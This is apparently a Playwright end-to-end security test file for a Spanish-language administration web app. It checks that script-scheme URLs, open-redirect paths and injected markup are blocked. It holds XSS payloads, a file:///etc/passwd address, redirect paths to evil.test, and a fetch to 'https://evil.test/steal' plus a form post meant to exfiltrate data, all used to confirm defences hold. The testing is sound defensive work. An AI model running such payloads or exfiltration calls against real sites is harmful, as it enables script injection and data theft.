/** Attacks through the browser of an administrator: active addresses, other sites, injected scripts. */

import { listAttorneyPowers, listRevokedPowers } from '@vigilia/contract/assemblies/attorney-powers';
import { listArticles } from '@vigilia/contract/content/articles';
import { listCourses } from '@vigilia/contract/content/courses';
import { anAssembly, attendees } from '../kit/assembly.ts';
import { expect, LONG, test } from '../kit/test.ts';

const RUNNING = [
  'javascript:alert(document.domain)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'JAVASCRIPT:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'blob:null/1',
  'file:///etc/passwd',
];

test(
  'script addresses never become links, from any backend',
  LONG,
  async ({ signedIn: page, product, administrator }) => {
    const assemblyId = await anAssembly(product, administrator);
    await attendees(product, administrator, assemblyId, [['Ana', 'Ruiz']]);
    const person = { id: 1, name: 'Ana', lastName: 'Ruiz', dni: '1', phone: '1' };
    const day = '2031-04-10T12:30:00.000Z';
    const answers: readonly (readonly [
      path: string,
      shown: string,
      screen: string,
      make: (url: string, id: number) => object,
    ])[] = [
      [listArticles.path, 'Trampa 1', '/academic/articles', (url, id) => ({ id, name: `Trampa ${id}`, url })],
      [
        listCourses.path,
        'Trampa 1',
        '/academic/courses',
        (url, id) => ({
          ...{ id, name: `Trampa ${id}`, description: 'a', startDate: day, endDate: day, price: 0, url },
          ...{ participants: 0, imageUrl: '' },
        }),
      ],
      // Before the powers in force, whose answer stays on the same screen.
      [
        listRevokedPowers.path,
        'Poderes revocados',
        `/gremial/assemblies/${assemblyId}/attorney-powers`,
        (powerOfAttorneyUrl, id) => ({
          id,
          user: person,
          userToDelegate: person,
          powerOfAttorneyUrl,
          revokedAt: day,
        }),
      ],
      [
        listAttorneyPowers.path,
        'Documento del poder',
        `/gremial/assemblies/${assemblyId}/attorney-powers`,
        (powerOfAttorneyUrl, id) => ({
          id,
          user: person,
          userToDelegate: person,
          powerOfAttorneyUrl,
          state: 'valid',
        }),
      ],
    ];
    for (const [path, shown, screen, make] of answers) {
      await page.route(
        (url) => url.pathname === `/api${path}`,
        (route) => route.fulfill({ json: { data: RUNNING.map((url, index) => make(url, index + 1)) } }),
      );
      await page.goto(screen);
      await expect(page.getByText(shown).first()).toBeVisible();
      const protocols = await page
        .locator('a[href], area[href], form[action], iframe[src]')
        .evaluateAll((all) =>
          all.map(
            (each) =>
              new URL(
                each.getAttribute('href') ?? each.getAttribute('action') ?? each.getAttribute('src') ?? '',
                location.href,
              ).protocol,
          ),
        );
      expect(protocols.length).toBeGreaterThan(0);
      expect(protocols.filter((protocol) => !['http:', 'https:'].includes(protocol))).toEqual([]);
    }
    await page.route('**/api/link-url/name/*', (route) =>
      route.fulfill({ json: { data: { id: 1, link: 'Videos', url: RUNNING[0] } } }),
    );
    await page.goto('/academic/videos');
    await expect(page.getByRole('textbox', { name: 'URL de la pagina web' })).toHaveValue(RUNNING[0] ?? '');
    await expect(page.locator('main a[href^="javascript"]')).toHaveCount(0);
    for (const url of RUNNING) {
      await page.getByRole('textbox', { name: 'URL de la pagina web' }).fill(url);
      await page.getByRole('button', { name: 'Guardar' }).click();
      const message = url.includes('\t')
        ? 'Escriba una dirección https:// sin espacios'
        : 'Escriba una dirección completa, con https://';
      await expect(page.getByText(message)).toBeVisible();
    }
  },
);

for (const [path, details] of [
  ['//evil.test/x', {}],
  ['/%5Cevil', LONG],
  ['//evil.test/%2e%2e', LONG],
  ['/sign-in?next=//evil.test&state=//evil.test', LONG],
] as const) {
  test(`signing in after ${path} stays on this site`, details, async ({ page, product, administrator }) => {
    await page.goto(`${product.address}${path}`);
    await page.getByLabel('Correo electrónico').fill(administrator.email);
    await page.getByLabel(/^Contraseña/).fill(administrator.password);
    await page.clock.install();
    await page.getByRole('button', { name: 'Iniciar sesion' }).click();
    await expect(page.getByText('Inicio de sesión exitoso')).toBeVisible();
    await page.clock.runFor(3000);
    await expect(page.getByRole('heading', { name: 'Hola administrador' })).toBeVisible();
    expect(new URL(page.url()).origin).toBe(product.address);
  });
}

test('injected content cannot run, load or send, and every journey detects a try', async ({
  signedIn: page,
  expectedMessages,
}) => {
  const breaches: string[] = [];
  page.on('console', (message) => {
    const [, directive] = /^policy breached: (\S+)/.exec(message.text()) ?? [];
    if (directive) breaches.push(directive);
  });
  expectedMessages.push(/policy|Content Security|blocked|Refused|violat|ERR_|Access is denied/i);
  await page.goto('/');
  await expect(page.getByRole('heading', { name: 'Hola administrador' })).toBeVisible();
  const attempts: Record<string, string> = {
    'script-src-elem': '<script src="https://evil.test/a.js"></script>',
    'script-src-attr': '<img src="/favicon.svg" onload="window.ran = true">',
    'style-src-attr': '<p style="color: red">a</p>',
    'img-src': '<img src="https://evil.test/a.png">',
    'frame-src': '<iframe src="https://evil.test"></iframe>',
    'object-src': '<object data="https://evil.test/a.swf"></object>',
    'media-src': '<video src="https://evil.test/a.mp4"></video>',
    'base-uri': '<base href="https://evil.test/">',
  };
  for (const [directive, markup] of Object.entries(attempts)) {
    await page.evaluate((html) => {
      // A script parsed in this way runs, as an injected one would.
      document.body.append(document.createRange().createContextualFragment(html));
    }, markup);
    await expect.poll(() => breaches, directive).toContain(directive);
  }
  await page.evaluate(() => void fetch('https://evil.test/steal').catch(() => undefined));
  await expect.poll(() => breaches).toContain('connect-src');
  await page.evaluate(() => {
    const form = Object.assign(document.createElement('form'), {
      action: 'https://evil.test',
      method: 'post',
    });
    document.body.append(form);
    form.submit();
  });
  await expect.poll(() => breaches).toContain('form-action');
  expect(await page.evaluate(() => (window as { ran?: boolean }).ran)).toBeUndefined();
  expect(new URL(page.url()).pathname).toBe('/');
});
